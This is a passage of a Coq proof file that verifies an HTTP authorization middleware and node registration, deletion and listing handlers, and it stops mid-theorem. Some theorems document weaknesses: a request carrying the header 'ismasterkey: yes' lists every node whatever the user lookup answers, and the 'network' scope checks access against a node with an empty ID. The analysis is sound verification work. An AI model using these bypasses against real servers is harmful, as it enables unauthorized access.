Lemma rejects_prefix {W : Type} (pre : list Event) res (fin : W) tr e :
  served pre = [] -> error_responses pre = [] ->
  rejects (mkOutcome res fin tr) e -> rejects (mkOutcome res fin (pre ++ tr)) e.
Proof.
  unfold rejects, served, error_responses. cbn [result trace].
  intros H1 H2 (Hr & Hs & He). rewrite !omap_app, H1, H2. done.
Qed.

Lemma passes_eta {W : Type} (o : Outcome W unit) r' :
  passes o r' -> passes (mkOutcome (result o) (final o) (trace o)) r'.
Proof. done. Qed.

Lemma rejects_eta {W : Type} (o : Outcome W unit) e :
  rejects o e -> rejects (mkOutcome (result o) (final o) (trace o)) e.
Proof. done. Qed.

Lemma one_outcome_eta {W : Type} (o : Outcome W unit) :
  one_outcome o -> one_outcome (mkOutcome (result o) (final o) (trace o)).
Proof. done. Qed.

(** Strip the events in front that neither run the handler nor write an
    error. *)
Ltac peel :=
  repeat first
    [ eapply passes_prefix; [assumption | assumption |]
    | eapply rejects_prefix; [assumption | assumption |]
    | eapply passes_quiet; [reflexivity | reflexivity |]
    | eapply rejects_quiet; [reflexivity | reflexivity |]
    | eapply one_outcome_quiet; [reflexivity | reflexivity |] ];
  first [ eapply passes_eta | eapply rejects_eta | eapply one_outcome_eta ].

Ltac quiet := peel.

Lemma unauthorized_rejects {W : Type} (env : Env W) (msg : string) (w : W) :
  rejects (run env (unauthorized msg) w) (ErrorResponseLit StatusUnauthorized msg).
Proof. unfold unauthorized, rejects. step. read. done. Qed.

Lemma authorize_verdict_run {W : Type} (env : Env W) (b : bool) (u : string)
    (r : Request) (w : W) :
  let o := run env (authorize_verdict b u r) w in
  if b then passes o (user_header u r) else rejects o not_authorized.
Proof.
  unfold authorize_verdict. destruct b; cbn [negb].
  - unfold passes. step. read. done.
  - apply unauthorized_rejects.
Qed.

Lemma authorize_verdict_one {W : Type} (env : Env W) (b : bool) (u : string)
    (r : Request) (w : W) :
  one_outcome (run env (authorize_verdict b u r) w).
Proof.
  pose proof (authorize_verdict_run env b u r w) as H. cbv zeta in H.
  destruct b; [left | right]; eexists; [exact H | split; [exact H | reflexivity]].
Qed.

Lemma unauthorized_one {W : Type} (env : Env W) (msg : string) (w : W) :
  one_outcome (run env (unauthorized msg) w).
Proof. right. eexists. split; [apply unauthorized_rejects | reflexivity]. Qed.

Lemma authorize_user_one {W : Type} (env : Env W) (authNetwork : string)
    (r : Request) (tok : string) (w : W) :
  one_outcome (run env (authorize_user authNetwork r tok) w).
Proof.
  unfold authorize_user. rewrite run_call_bind. quiet.
  destruct (env _ (VerifyUserToken tok) w) as [[[[u nets] isadmin] errN] w0].
  cbn [fst snd].
  destruct errN as [msg |]; cbn [is_nil negb]; [apply unauthorized_one |].
  destruct isadmin; cbn [andb negb].
  - rewrite String.eqb_refl. apply authorize_verdict_one.
  - change (String.eqb "" "mastermac") with false. cbv beta iota zeta.
    repeat match goal with
    | |- context [if String.eqb authNetwork ?s then _ else _] =>
        destruct (String.eqb authNetwork s); [try apply authorize_verdict_one |]
    end; try apply authorize_verdict_one.
    + match goal with |- context [if ?b then _ else _] => destruct b end;
        [apply authorize_verdict_one |].
      rewrite run_call_bind. quiet.
      destruct (env _ (GetNodeByID "") w0) as [[node err] w1]. cbn [fst snd].
      destruct err; cbn [is_nil negb];
        [apply unauthorized_one | apply authorize_verdict_one].
    + match goal with |- context [if ?b then _ else _] => destruct b end;
        apply authorize_verdict_one.
Qed.

(** X1.  Whatever the request, the route flags, the scope and the answers of
    the collaborators, the middleware ends without a panic in one of two
    ways: it runs the handler once and writes no error, or it writes one
    error, unauthorized or not-found, and does not run the handler. *)
Theorem authorize_one_outcome {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (w : W) :
  one_outcome (run env (authorize nodesAllowed networkCheck authNetwork r) w).
Proof.
  unfold authorize. rewrite run_call_bind. quiet.
  destruct (env _ (NetworkExists _) w) as [[ex e0] w0]. cbn [fst snd].
  destruct (networkCheck && negb ex).
  - right. eexists. split; [unfold rejects; step; read; done | reflexivity].
  - rewrite run_call_bind. quiet. cbv beta iota zeta.
    destruct (1 <? _); [| apply unauthorized_one].
    destruct nodesAllowed; [| apply authorize_user_one].
    rewrite run_call_bind. quiet.
    destruct (env _ (VerifyToken _) _) as [[[[a b] c] err] w2]. cbn [fst snd].
    destruct err; cbn [is_nil]; [apply authorize_user_one |].
    left. eexists. unfold passes. step. read. done.
Qed.

Lemma no_token_split r :
  no_token r -> (1 <? length (Split (Get (Header r) "Authorization"))) = false.
Proof.
  unfold no_token. intros H. apply Nat.ltb_ge. by apply lookup_ge_None in H.
Qed.

Lemma no_header_no_token r : Header r !! "Authorization" = None -> no_token r.
Proof. unfold no_token, Get. by intros ->. Qed.

(** X2.  A request without a token (no Authorization header, or a header
    without a second piece) that is through the network check is answered
    with the missing-token error; no verifier is asked and no node is looked
    up. *)
Theorem authorize_missing_token {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (w : W) :
  no_token r ->
  network_ok env w networkCheck r ->
  let o := run env (authorize nodesAllowed networkCheck authNetwork r) w in
  rejects o missing_token /\ credential_checks (trace o) = [] /\
  node_lookups (trace o) = [].
Proof.
  intros Hn Hk. apply no_token_split in Hn.
  unfold network_ok, network_exists in Hk.
  unfold authorize. step. destruct x as [ex e0]. tidy. rewrite Hk.
  step. rewrite Hn. unfold unauthorized, rejects. step. read_more. done.
Qed.

Lemma authorize_missing_token_witness :
  let r := mkRequest ∅ (<[ "network" := "net1" ]> {[ "nodeid" := "node-1" ]}) in
  let o := run env_master (authorize true true "node" r) tt in
  rejects o missing_token /\ credential_checks (trace o) = [] /\
  node_lookups (trace o) = [].
Proof.
  refine (authorize_missing_token env_master true true "node"
            (mkRequest ∅ (<[ "network" := "net1" ]> {[ "nodeid" := "node-1" ]}))
            tt _ _); reflexivity.
Defined.

(** Up to the user token: with a token in the request, the network check
    passed and no node token accepted, the middleware has made only its
    network lookup and, where nodes are allowed, the node-token check, and
    goes on with the user token. *)
Lemma authorize_reaches_user {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (tok : string) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  (nodesAllowed = true -> node_token_fails env tok) ->
  exists w1 pre,
    run env (authorize nodesAllowed networkCheck authNetwork r) w =
      (let o := run env (authorize_user authNetwork r tok) w1 in
       mkOutcome (result o) (final o) (pre ++ trace o)) /\
    served pre = [] /\ error_responses pre = [] /\ node_lookups pre = [].
Proof.
  intros Hc Hk Hnode. destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold network_ok, network_exists in Hk.
  unfold authorize. step. destruct x as [ex e0]. tidy. rewrite Hk.
  step. rewrite Hlen, Hnth. destruct nodesAllowed.
  - step. destruct x as [[[a b] c] err].
    pose proof (Hnode eq_refl w1) as Hf. rewrite E1 in Hf. cbn [fst snd] in Hf.
    destruct err as [msg |]; [| done]. tidy.
    exists w2, [Ev (NetworkExists (Get (Vars r) "network")) (ex, e0);
                Ev (SetResponseHeader "Content-Type" "application/json") tt;
                Ev (VerifyToken tok) (a, b, c, Some msg)].
    split; [reflexivity |]. read_more. done.
  - exists w1, [Ev (NetworkExists (Get (Vars r) "network")) (ex, e0);
                Ev (SetResponseHeader "Content-Type" "application/json") tt].
    split; [reflexivity |]. read_more. done.
Qed.

(** X3.  A token that neither verifier accepts is answered with the
    invalid-token error, whatever the scope. *)
Theorem authorize_invalid_token {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (tok : string) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  (nodesAllowed = true -> node_token_fails env tok) ->
  user_token_fails env tok ->
  rejects (run env (authorize nodesAllowed networkCheck authNetwork r) w)
          invalid_token.
Proof.
  intros Hc Hk Hnode Huser.
  destruct (authorize_reaches_user env nodesAllowed networkCheck authNetwork
              r tok w Hc Hk Hnode) as (w1 & pre & -> & Hs & He & _).
  cbv zeta. unfold authorize_user. rewrite run_call_bind. cbn [result final trace]. peel.
  pose proof (Huser w1) as Hf.
  destruct (env _ (VerifyUserToken tok) w1) as [[[[u nets] isadmin] errN] w2].
  cbn [fst snd] in *. destruct errN as [msg |]; [| done].
  apply unauthorized_rejects.
Qed.

Lemma authorize_invalid_token_witness :
  rejects (run env_master
             (authorize true true "user" (node_request "guess" "net1" "node-1"))
             tt)
          invalid_token.
Proof.
  refine (authorize_invalid_token env_master true true "user"
            (node_request "guess" "net1" "node-1") "guess" tt _ _ _ _).
  - reflexivity.
  - reflexivity.
  - intros _ w. vm_compute. discriminate.
  - intros w. vm_compute. discriminate.
Defined.

(** X4.  On a route that allows nodes, a token the node verifier accepts
    gets the request to the handler as it came, before the user verifier or
    the scope is looked at: for every scope string, also one the switch does
    not know. *)
Theorem authorize_node_token {W : Type} (env : Env W) (networkCheck : bool)
    (authNetwork : string) (r : Request) (tok : string) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  node_token_verifies env tok ->
  let o := run env (authorize true networkCheck authNetwork r) w in
  passes o r /\ length (credential_checks (trace o)) = 1 /\
  node_lookups (trace o) = [].
Proof.
  intros Hc Hk Hv. destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold network_ok, network_exists in Hk.
  unfold authorize. step. destruct x as [ex e0]. tidy. rewrite Hk.
  step. rewrite Hlen, Hnth. step. destruct x as [[[a b] c] err].
  pose proof (Hv w1) as Hf. rewrite E1 in Hf. cbn [fst snd] in Hf. subst err.
  tidy. step. unfold passes. read_more. done.
Qed.

Lemma authorize_node_token_witness :
  let r := node_request "node2token" "net1" "node-1" in
  let o := run env_bob (authorize true true "no such scope" r) tt in
  passes o r /\ length (credential_checks (trace o)) = 1 /\
  node_lookups (trace o) = [].
Proof.
  refine (authorize_node_token env_bob true "no such scope"
            (node_request "node2token" "net1" "node-1") "node2token" tt _ _ _).
  - reflexivity.
  - reflexivity.
  - intros w. reflexivity.
Defined.

(** The scope switch for a user who is not an admin: the program that is
    left once the user token is verified. *)
Lemma authorize_user_plain {W : Type} (env : Env W) (authNetwork : string)
    (r : Request) (tok u : string) (nets : list string) (w : W) :
  plain_user env tok u nets ->
  exists w1,
    run env (authorize_user authNetwork r tok) w =
      (let o :=
         run env
           (if String.eqb authNetwork "all" then authorize_verdict true u r
            else if String.eqb authNetwork "nodes" then
              authorize_verdict (member nets r) u r
            else if String.eqb authNetwork "network" then
              if member nets r then authorize_verdict true u r
              else
                '(node, err) ← call (GetNodeByID "");
                if negb (is_nil err) then unauthorized "W1R3: Missing Auth Token."
                else
                  authorize_verdict
                    (String.eqb (Network_ node) (Get (Vars r) "network")) u r
            else if String.eqb authNetwork "node" then
              if member nets r then authorize_verdict true u r
              else authorize_verdict (String.eqb "" (Get (Vars r) "netid")) u r
            else if String.eqb authNetwork "user" then authorize_verdict true u r
            else authorize_verdict false u r) w1 in
       mkOutcome (result o) (final o)
         (Ev (VerifyUserToken tok) (u, nets, false, None) :: trace o)).
Proof.
  intros Hu. unfold authorize_user. step. by_answer Hu. exists w0.
  change (String.eqb "" "mastermac") with false. cbv beta iota zeta.
  unfold member.
  destruct (negb (String.eqb (Get (Vars r) "network") "")); cbn [andb orb negb];
    [destruct (StringSliceContains nets (Get (Vars r) "network")) |];
    reflexivity.
Qed.

(** X5.  A user who is not an admin and whose token verifies is let through,
    with the user name attached to the request and no node looked up, on the
    scopes "all" and "user", and, when the path network is in the user's
    network list, also on "nodes", "network" and "node". *)
Theorem authorize_user_served {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (tok u : string) (nets : list string) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  (nodesAllowed = true -> node_token_fails env tok) ->
  plain_user env tok u nets ->
  In authNetwork ["all"; "user"] \/
  (member nets r = true /\ In authNetwork ["nodes"; "network"; "node"]) ->
  let o := run env (authorize nodesAllowed networkCheck authNetwork r) w in
  passes o (user_header u r) /\ node_lookups (trace o) = [].
Proof.
  intros Hc Hk Hnode Hu Hscope.
  destruct (authorize_reaches_user env nodesAllowed networkCheck authNetwork
              r tok w Hc Hk Hnode) as (w1 & pre & -> & Hs & He & Hl).
  destruct (authorize_user_plain env authNetwork r tok u nets w1 Hu)
    as (w2 & ->).
  cbv zeta. cbn [result final trace].
  assert (Hv : forall w', passes (run env (authorize_verdict true u r) w')
                                 (user_header u r) /\
                          node_lookups (trace (run env (authorize_verdict true u r) w')) = []).
  { intros w'. split; [apply (authorize_verdict_run env true) |].
    unfold authorize_verdict. cbn [negb]. step. read_more. done. }
  assert (Hgoal : forall p,
            (passes (run env p w2) (user_header u r) /\
             node_lookups (trace (run env p w2)) = []) ->
            passes (mkOutcome (result (run env p w2)) (final (run env p w2))
                      (pre ++ Ev (VerifyUserToken tok) (u, nets, false, None)
                           :: trace (run env p w2))) (user_header u r) /\
            node_lookups (pre ++ Ev (VerifyUserToken tok) (u, nets, false, None)
                              :: trace (run env p w2)) = []).
  { intros p [Hp Hn]. split.
    - by peel.
    - unfold node_lookups in *. rewrite omap_app, Hl, omap_cons_ev.
      cbn [on_GetNodeByID app]. exact Hn. }
  apply Hgoal.
  destruct Hscope as [[<- | [<- | []]] | [Hm [<- | [<- | [<- | []]]]]];
    cbn [String.eqb Ascii.eqb Bool.eqb]; rewrite ?Hm; apply Hv.
Qed.

Lemma authorize_user_served_witness :
  let r := node_request "bobtoken" "net1" "node-1" in
  let o := run env_bob (authorize false true "user" r) tt in
  passes o (user_header "bob" r) /\ node_lookups (trace o) = [].
Proof.
  refine (authorize_user_served env_bob false true "user"
            (node_request "bobtoken" "net1" "node-1") "bobtoken" "bob" [] tt
            _ _ _ _ _).
  - reflexivity.
  - reflexivity.
  - discriminate.
  - intros w. reflexivity.
  - left. right. left. reflexivity.
Defined.

(** X6.  A user who is not an admin and not in the path network is answered
    with the unauthorized error on the scope "nodes" and on every scope
    string the switch does not list. *)
Theorem authorize_user_rejected {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string) (r : Request)
    (tok u : string) (nets : list string) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  (nodesAllowed = true -> node_token_fails env tok) ->
  plain_user env tok u nets ->
  member nets r = false ->
  ~ In authNetwork ["all"; "user"; "network"; "node"] ->
  rejects (run env (authorize nodesAllowed networkCheck authNetwork r) w)
          not_authorized.
Proof.
  intros Hc Hk Hnode Hu Hm Hscope.
  destruct (authorize_reaches_user env nodesAllowed networkCheck authNetwork
              r tok w Hc Hk Hnode) as (w1 & pre & -> & Hs & He & Hl).
  destruct (authorize_user_plain env authNetwork r tok u nets w1 Hu)
    as (w2 & ->).
  cbv zeta. cbn [result final trace].
  assert (Hne : forall s, In s ["all"; "user"; "network"; "node"] ->
                          String.eqb authNetwork s = false).
  { intros s Hin. apply String.eqb_neq. intros ->. by apply Hscope. }
  rewrite (Hne "all"), (Hne "network"), (Hne "node"), (Hne "user"), Hm
    by (cbn; tauto).
  assert (Hv := authorize_verdict_run env false u r w2). cbv zeta in Hv.
  destruct (String.eqb authNetwork "nodes"); by peel.
Qed.

Lemma authorize_user_rejected_witness :
  rejects (run env_bob
             (authorize false true "nodes" (node_request "bobtoken" "net1" "node-1"))
             tt)
          not_authorized.
Proof.
  refine (authorize_user_rejected env_bob false true "nodes"
            (node_request "bobtoken" "net1" "node-1") "bobtoken" "bob" [] tt
            _ _ _ _ _ _).
  - reflexivity.
  - reflexivity.
  - discriminate.
  - intros w. reflexivity.
  - reflexivity.
  - cbn. intros [H | [H | [H | [H | []]]]]; discriminate H.
Defined.

(** X7.  On the scope "network" a user who is not an admin and not in the
    path network is judged by the node whose ID is the empty string: that
    node is looked up, a failed lookup is answered with the missing-token
    error, and otherwise the request is let through exactly when that
    node's network is the path network. *)
Theorem authorize_network_scope_lookup {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (r : Request) (tok u : string)
    (nets : list string) (node : Node) (err : error) (w : W) :
  carries r tok ->
  network_ok env w networkCheck r ->
  (nodesAllowed = true -> node_token_fails env tok) ->
  plain_user env tok u nets ->
  member nets r = false ->
  (forall w', (env _ (GetNodeByID "") w').1 = (node, err)) ->
  let o := run env (authorize nodesAllowed networkCheck "network" r) w in
  node_lookups (trace o) = [""] /\
  match err with
  | Some _ => rejects o missing_token
  | None =>
      if String.eqb (Network_ node) (Get (Vars r) "network")
      then passes o (user_header u r) else rejects o not_authorized
  end.
Proof.
  intros Hc Hk Hnode Hu Hm Hlook.
  destruct (authorize_reaches_user env nodesAllowed networkCheck "network"
              r tok w Hc Hk Hnode) as (w1 & pre & -> & Hs & He & Hl).
  destruct (authorize_user_plain env "network" r tok u nets w1 Hu)
    as (w2 & ->).
  cbv zeta. cbn [result final trace String.eqb Ascii.eqb Bool.eqb].
  rewrite Hm. step. by_answer Hlook.
  assert (Hq : forall (o : Outcome W unit),
            node_lookups (trace o) = [] ->
            node_lookups
              (pre ++ Ev (VerifyUserToken tok) (u, nets, false, None)
                   :: Ev (GetNodeByID "") (node, err) :: trace o) = [""]).
  { intros o Ho. unfold node_lookups in *.
    rewrite omap_app, Hl, !omap_cons_ev. cbn [on_GetNodeByID app].
    by rewrite Ho. }
  assert (Hp : forall (o : Outcome W unit) r',
            passes o r' ->
            passes (mkOutcome (result o) (final o)
                      (pre ++ Ev (VerifyUserToken tok) (u, nets, false, None)
                           :: Ev (GetNodeByID "") (node, err) :: trace o)) r').
  { intros o r' H. by peel. }
  assert (Hr : forall (o : Outcome W unit) e,
            rejects o e ->
            rejects (mkOutcome (result o) (final o)
                      (pre ++ Ev (VerifyUserToken tok) (u, nets, false, None)
                           :: Ev (GetNodeByID "") (node, err) :: trace o)) e).
  { intros o e H. by peel. }
  assert (Hn : forall b w', node_lookups
                 (trace (run env (authorize_verdict b u r) w')) = []).
  { intros b w'. unfold authorize_verdict, unauthorized.
    destruct b; cbn [negb]; step; read_more; done. }
  destruct err as [msg |]; tidy.
  - split.
    + apply Hq. unfold unauthorized. step. read_more. done.
    + apply Hr. apply unauthorized_rejects.
  - split; [apply Hq, Hn |].
    pose proof (authorize_verdict_run env
                  (String.eqb (Network_ node) (Get (Vars r) "network")) u r w0)
      as Hv. cbv zeta in Hv.
    destruct (String.eqb (Network_ node) (Get (Vars r) "network"));
      [by apply Hp | by apply Hr].
Qed.

Lemma authorize_network_scope_lookup_witness :
  let r := node_request "bobtoken" "net1" "node-1" in
  let o := run env_empty_id (authorize false true "network" r) tt in
  node_lookups (trace o) = [""] /\ passes o (user_header "bob" r).
Proof.
  refine (authorize_network_scope_lookup env_empty_id false true
            (node_request "bobtoken" "net1" "node-1") "bobtoken" "bob" []
            (node_named "" "net1") None tt _ _ _ _ _ _).
  - reflexivity.
  - reflexivity.
  - discriminate.
  - intros w. reflexivity.
  - reflexivity.
  - intros w. reflexivity.
Defined.

(** ** Listing all nodes *)

(** X8.  A request that reaches the handler with the header "ismasterkey"
    set to "yes", or whose user is an admin, is answered from the list of
    all nodes: no per-network lookup is made, the list is written when the
    listing succeeds and the one error is the listing's own.  With the
    header set this holds whatever the user lookup answers, a failure
    included. *)
Theorem getAllNodes_master_or_admin {W : Type} (env : Env W) (r : Request)
    (nodes : list Node) (err : error) (w : W) :
  Get (Header r) "ismasterkey" = "yes" \/
  (exists user, IsAdmin user = true /\
     forall w', (env _ (GetUser (Get (Header r) "user")) w').1 = (user, None)) ->
  (forall w', (env _ GetAllNodes w').1 = (nodes, err)) ->
  let o := run env (getAllNodes r) w in
  result o = Some tt /\ all_nodes_listings (trace o) = [tt] /\
  network_lookups (trace o) = [] /\
  match err with
  | None => encoded (trace o) = [BodyNodes nodes] /\ error_responses (trace o) = []
  | Some _ =>
      encoded (trace o) = [] /\
      error_responses (trace o) = [formatError err "internal"]
  end.
Proof.
  intros Hwho Hall. unfold getAllNodes. step. step. destruct x as [user uerr].
  assert (Hgo : negb (is_nil uerr)
                && negb (String.eqb (Get (Header r) "ismasterkey") "yes") = false
                /\ IsAdmin user
                   || String.eqb (Get (Header r) "ismasterkey") "yes" = true).
  { destruct Hwho as [-> | (user' & Hadm & Hu)].
    - cbn [String.eqb Ascii.eqb Bool.eqb negb]. by rewrite andb_false_r, orb_true_r.
    - pose proof (Hu w0) as Hx. rewrite E0 in Hx. cbn [fst] in Hx.
      injection Hx as -> ->. by rewrite Hadm. }
  destruct Hgo as [-> ->]. step. by_answer Hall.
  destruct err as [msg |]; tidy.
  - step. read_more. done.
  - step. step. read_more. done.
Qed.

Lemma getAllNodes_master_or_admin_witness :
  let r := mkRequest (<[ "ismasterkey" := "yes" ]> {[ "user" := "mallory" ]}) ∅ in
  let o := run env_all_nodes (getAllNodes r) tt in
  result o = Some tt /\ all_nodes_listings (trace o) = [tt] /\
  network_lookups (trace o) = [] /\
  encoded (trace o) = [BodyNodes all_nodes] /\ error_responses (trace o) = [].
Proof.
  refine (getAllNodes_master_or_admin env_all_nodes
            (mkRequest (<[ "ismasterkey" := "yes" ]> {[ "user" := "mallory" ]}) ∅)
            all_nodes None tt _ _).
  - left. reflexivity.
  - intros w. reflexivity.
Defined.

(** X9.  Without that header, a failed user lookup ends the handler with the
    internal error of the lookup: no node is listed. *)
Theorem getAllNodes_unknown_user {W : Type} (env : Env W) (r : Request)
    (user : User) (msg : string) (w : W) :
  Get (Header r) "ismasterkey" <> "yes" ->
  (forall w', (env _ (GetUser (Get (Header r) "user")) w').1 = (user, Some msg)) ->
  let o := run env (getAllNodes r) w in
  trace o =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (GetUser (Get (Header r) "user")) (user, Some msg);
      Ev (ReturnErrorResponse (formatError (Some msg) "internal")) tt ].
Proof.
  intros Hmk Hu. apply String.eqb_neq in Hmk.
  unfold getAllNodes. step. step. by_answer Hu. rewrite Hmk. tidy. step. done.
Qed.

Lemma getAllNodes_unknown_user_witness :
  let r := mkRequest {[ "user" := "mallory" ]} ∅ in
  trace (run env_all_nodes (getAllNodes r) tt) =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (GetUser "mallory") (zeroUser, Some "could not find any records");
      Ev (ReturnErrorResponse
            (formatError (Some "could not find any records") "internal")) tt ].
Proof.
  refine (getAllNodes_unknown_user env_all_nodes
            (mkRequest {[ "user" := "mallory" ]} ∅) zeroUser
            "could not find any records" tt _ _).
  - vm_compute. discriminate.
  - intros w. reflexivity.
Defined.

(** ** Registration *)


(** On a network that does not exist, or whose existence cannot be
    read, registration stops at that check: the body is not decoded, no key
    is checked and the one error is not-found, or the internal error of the
    failed check. *)
Theorem createNode_network_missing {W : Type} (env : Env W) (r : Request)
    (ex : bool) (err : error) (w : W) :
  (forall w', (env _ (NetworkExists (Get (Vars r) "network")) w').1 = (ex, err)) ->
  err <> None \/ ex = false ->
  trace (run env (createNode r) w) =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (NetworkExists (Get (Vars r) "network")) (ex, err);
      Ev (ReturnErrorResponse
            (match err with
             | Some _ => formatError err "internal"
             | None => ErrorResponseLit StatusNotFound
                         "W1R3: Network does not exist! "
             end)) tt ].
Proof.
  intros Hn Hbad. unfold createNode. step. step. by_answer Hn.
  destruct err as [msg |]; tidy; [by step |].
  destruct Hbad as [? | ->]; [done |]. tidy. by step.
Qed.

Lemma createNode_network_missing_witness :
  let r := mkRequest ∅ {[ "network" := "nowhere" ]} in
  trace (run (env_register zeroNode "yes" None) (createNode r) tt) =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (NetworkExists "nowhere") (false, None);
      Ev (ReturnErrorResponse
            (ErrorResponseLit StatusNotFound "W1R3: Network does not exist! "))
         tt ].
Proof.
  refine (createNode_network_missing (env_register zeroNode "yes" None)
            (mkRequest ∅ {[ "network" := "nowhere" ]}) false None tt _ _).
  - intros w. reflexivity.
  - right. reflexivity.
Defined.

(** X11.  When the node has been accepted by [logic.CreateNode] and the
    computation of its peers then fails with an error that is not the
    empty-record one, the handler writes that error and stops: the node has
    been handed to persistence, but no success body is written and no
    propagation is started. *)
Theorem createNode_peer_update_failure {W : Type} (env : Env W) (r : Request)
    (draft stored : Node) (network settings : Network) (key mine msg : string)
    (peers : PeerUpdate) (w : W) :
  (forall w', (env _ (NetworkExists (Get (Vars r) "network")) w').1 = (true, None)) ->
  (forall w', (env _ DecodeNode w').1 = (draft, None)) ->
  (forall n w', (env _ (GetNetworkByNode n) w').1 = (network, None)) ->
  (forall w', (env _ (GetNetworkSettings (Get (Vars r) "network")) w').1
              = (settings, None)) ->
  (forall w', (env _ (IsKeyValid (Get (Vars r) "network") (AccessKey_ draft)) w').1
              = true) ->
  (forall w', (env _ RetrievePublicTrafficKey w').1 = (Some key, None)) ->
  Mine (TrafficKeys_ draft) = Some mine ->
  (forall w', (env _ (CreateNode
                        (registered_node (Some key)
                           (draft_on_network r draft settings))) w').1
              = (stored, None)) ->
  (forall w', (env _ (GetPeerUpdate stored) w').1 = (peers, Some msg)) ->
  (forall w', (env _ (IsEmptyRecord (Some msg)) w').1 = false) ->
  let o := run env (createNode r) w in
  created (trace o) =
    [registered_node (Some key) (draft_on_network r draft settings)] /\
  error_responses (trace o) = [formatError (Some msg) "internal"] /\
  encoded (trace o) = [] /\ spawned (trace o) = [].
Proof.
  intros Hex Hdec Hnet Hset Hkey Hsk Hmine Hcreate Hpeers Hempty.
  unfold createNode. step. step. by_answer Hex. step. by_answer Hdec.
  step. by_answer (Hnet (set_Network (Get (Vars r) "network") draft)).
  step. cbn [Network_ set_Network] in *. by_answer Hset.
  step. cbn [AccessKey_ set_NetworkSettings set_Network] in *. by_answer Hkey.
  unfold access_key_gate, createNode_register. tidy.
  step. by_answer Hsk.
  cbn [TrafficKeys_ set_NetworkSettings set_Network] in *. rewrite Hmine. tidy.
  unfold registered_node, draft_on_network in *.
  cbn [TrafficKeys_ set_NetworkSettings set_Network] in *.
  rewrite Hmine in *.
  step. by_answer Hcreate.
  step. by_answer Hpeers.
  rewrite run_bind, run_call. tidy.
  match goal with
  | |- context [env _ (IsEmptyRecord _) ?w0] =>
      pose proof (Hempty w0) as He;
      destruct (env _ (IsEmptyRecord (Some msg)) w0) as [empty w'];
      cbn [fst] in He; subst empty
  end. tidy. step.
  compute_traces. done.
Qed.

Lemma createNode_peer_update_failure_witness :
  let draft := joining_node "goodkey" "" (Some "nodepk") in
  let o := run (env_peers_fail draft) (createNode register_request) tt in
  created (trace o) =
    [registered_node (Some "serverpk")
       (draft_on_network register_request draft (net1 "no"))] /\
  error_responses (trace o)
    = [formatError (Some "could not reach peers") "internal"] /\
  encoded (trace o) = [] /\ spawned (trace o) = [].
Proof.
  refine (createNode_peer_update_failure
            (env_peers_fail (joining_node "goodkey" "" (Some "nodepk")))
            register_request (joining_node "goodkey" "" (Some "nodepk"))
            (set_TrafficKeys (mkTrafficKeys (Some "nodepk") (Some "serverpk"))
               (draft_on_network register_request
                  (joining_node "goodkey" "" (Some "nodepk")) (net1 "no")))
            (net1 "no") (net1 "no") "serverpk" "nodepk" "could not reach peers"
            (mkPeerUpdate []) tt _ _ _ _ _ _ _ _ _ _);
    try (intros; reflexivity).
Defined.

(** ** Deletion *)

(** X12.  Whatever the request and the answers of the collaborators,
    deletion ends without a panic; every node it hands to
    [logic.DeleteNodeByID] carries the delete action and is not a server
    node; and it ends in one of two ways: one error is written, no success
    answer is written and nothing is propagated; or one node was handed to
    [logic.DeleteNodeByID], no error is written, the success answer names
    the path's node ID, and the two propagation tasks are started, in order,
    for that node. *)
Theorem deleteNode_outcomes {W : Type} (env : Env W) (r : Request) (w : W) :
  let o := run env (deleteNode r) w in
  result o = Some tt /\
  Forall (fun n => Action n = NODE_DELETE /\ isServer n = false)
         (deleted (trace o)) /\
  (deletion_failed (trace o) \/ deletion_done r (trace o)).
Proof.
  unfold deleteNode, runUpdates, runForceServerUpdate, deletion_failed,
    deletion_done. cbv zeta.
  next. next. destruct p as [node err]. destruct err as [msg |]; tidy_goal.
  - next. compute_traces. repeat split; [constructor |]. left. eexists. done.
  - destruct (isServer node) eqn:Hs.
    + next. compute_traces. repeat split; [constructor |]. left. eexists. done.
    + next. destruct e as [msg |]; tidy_goal.
      * next. compute_traces. repeat split; [by repeat constructor |].
        left. eexists. done.
      * next. next. next. compute_traces.
        repeat split; [by repeat constructor |]. right. eexists. done.
Qed.

(** ** Propagation *)

(** X13.  For a node that is not a server node the server update does
    nothing, whatever the client mode: no peer update is published, no
    server is updated and no error is returned. *)
Theorem runServerUpdate_ordinary_node {W : Type} (env : Env W) (node : Node)
    (ifaceDelta : bool) (w : W) :
  isServer node = false ->
  let o := run env (runServerUpdate node ifaceDelta) w in
  result o = Some None /\ peer_updates (trace o) = [] /\
  reloads (trace o) = [] /\ length (trace o) = 1.
Proof.
  intros Hs. unfold runServerUpdate. rewrite Hs. next.
  rewrite orb_true_r. next. compute_traces. done.
Qed.

Lemma runServerUpdate_ordinary_node_witness :
  let o := run (env_client_mode server_node true None)
               (runServerUpdate stored_node true) tt in
  result o = Some None /\ peer_updates (trace o) = [] /\
  reloads (trace o) = [] /\ length (trace o) = 1.
Proof.
  refine (runServerUpdate_ordinary_node (env_client_mode server_node true None)
            stored_node true tt _).
  reflexivity.
Defined.

(** X14.  In client mode, for a server node, the server update acts on the
    local server record of the node's network and not on the node it was
    given: that record is published to the peers only when the interface
    changed and the server is the leader, it is always handed to
    [logic.ServerUpdate] with the same flag, and the error of
    [logic.ServerUpdate] is the result. *)
Theorem runServerUpdate_server_node {W : Type} (env : Env W) (node srv : Node)
    (ifaceDelta leader : bool) (err : error) (w : W) :
  isServer node = true ->
